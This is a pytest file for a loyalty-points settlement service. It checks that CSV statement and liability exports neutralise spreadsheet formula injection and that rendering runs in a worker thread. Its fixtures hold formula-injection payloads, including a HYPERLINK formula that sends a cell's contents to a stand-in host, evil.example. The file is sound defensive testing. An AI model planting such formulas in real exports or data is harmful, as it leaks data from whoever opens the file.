"""The CSV exports neutralise spreadsheet formulas in text cells (OWASP's rule) and keep numbers
numbers; the CSV writing and the PDF rendering run in a worker thread, not on the event loop."""

from __future__ import annotations

import csv
import io
import threading
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from sqlalchemy import text

from settlement import csvfile, exports
from settlement import service as settlement
from tests.settlement.helpers import coalition, earn, redeem

MAR = datetime(2024, 3, 1, tzinfo=UTC)
APR = datetime(2024, 4, 1, tzinfo=UTC)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1)'
EVIL_REFS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


async def _evil_coalition(sengine):
    """Partners named like formulas, events whose order references are formulas, and a
    redemption so that one partner's net is negative and another's positive."""
    (a, b), (m, n) = await coalition(
        sengine, prices=[("0.015", "0.01"), ("0.02", "0.012")], effective_from=MAR - timedelta(30)
    )
    async with sengine.begin() as conn:  # names as stored; the API strips, the database may not
        for pid, name in ((a, "@SUM(1+1)"), (b, "-cmd")):
            await conn.execute(
                text("UPDATE partners SET name = :n WHERE id = :id"), {"n": name, "id": pid}
            )
    for i, ref in enumerate(EVIL_REFS):
        await earn(sengine, m, a, 100 + i, MAR + timedelta(days=1, minutes=i), ref=ref)
    await earn(sengine, n, b, 400, MAR + timedelta(days=2), ref="plain-1")
    await redeem(sengine, m, b, 300, MAR + timedelta(days=3), ref="=1+1")
    async with sengine.begin() as conn:
        period = await settlement.run(
            conn, currency="RUB", period_start=MAR, period_end=APR, actor="operator"
        )
    return period, a, b


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("order-1", "order-1"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-5, -5),
    ],
)
def test_csv_cell_neutralises_text_only(cell, written) -> None:
    assert csvfile.csv_cell(cell) == written


async def test_statement_csv_neutralises_formulas_and_keeps_numbers(sengine) -> None:
    period, a, b = await _evil_coalition(sengine)
    async with sengine.connect() as conn:
        body_a = await exports.statement_csv(conn, period_id=period.id, partner_id=a)
        body_b = await exports.statement_csv(conn, period_id=period.id, partner_id=b)
    rows = list(csv.DictReader(io.StringIO(body_a, newline="")))
    refs = [r["order_ref"] for r in rows if r["line_type"] == "event"]
    assert refs == ["'" + x for x in EVIL_REFS]
    assert HYPERLINK not in {r["order_ref"] for r in rows}
    # Numbers stay numbers: points, amounts and the negative net parse without a quote.
    net_a = next(r for r in rows if r["line_type"] == "total" and r["kind"] == "net")
    assert Decimal(net_a["amount"]) < 0 and not net_a["amount"].startswith("'")
    assert all(int(r["points"]) > 0 for r in rows if r["line_type"] == "event")
    rows_b = list(csv.DictReader(io.StringIO(body_b, newline="")))
    assert {r["order_ref"] for r in rows_b if r["kind"] == "capture"} == {"'=1+1"}
    net_b = next(r for r in rows_b if r["line_type"] == "total" and r["kind"] == "net")
    assert Decimal(net_b["amount"]) < 0  # B issued more than it accepted: it pays
    for body in (body_a, body_b):
        for row in csv.reader(io.StringIO(body, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
                if cell.startswith("-"):
                    Decimal(cell)  # only a number may start with a minus


async def test_liability_csv_neutralises_partner_names(sengine) -> None:
    await _evil_coalition(sengine)
    async with sengine.connect() as conn:
        body = await exports.liability_csv(conn, currency="RUB")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert {r["issuer"] for r in rows} == {"'@SUM(1+1)", "'-cmd"}
    assert all(int(r["points"]) > 0 and Decimal(r["value"]) > 0 for r in rows)


async def test_rendering_runs_off_the_event_loop(sengine, monkeypatch) -> None:
    period, a, _ = await _evil_coalition(sengine)
    loop_thread = threading.get_ident()
    seen: dict[str, list[int]] = {"pdf": [], "csv": []}

    def spy(name, fn):
        def wrapper(*args, **kwargs):
            seen[name].append(threading.get_ident())
            return fn(*args, **kwargs)

        return wrapper

    monkeypatch.setattr(exports, "render_statement_pdf", spy("pdf", exports.render_statement_pdf))
    monkeypatch.setattr(exports, "write_csv", spy("csv", exports.write_csv))
    async with sengine.connect() as conn:
        pdf = await exports.statement_pdf(
            conn, operator_name="Coalition operator", period_id=period.id, partner_id=a
        )
        await exports.statement_csv(conn, period_id=period.id, partner_id=a)
        await exports.liability_csv(conn, currency="RUB")
    assert pdf.startswith(b"%PDF")
    assert len(seen["pdf"]) == 1 and len(seen["csv"]) == 2
    assert loop_thread not in seen["pdf"] + seen["csv"]
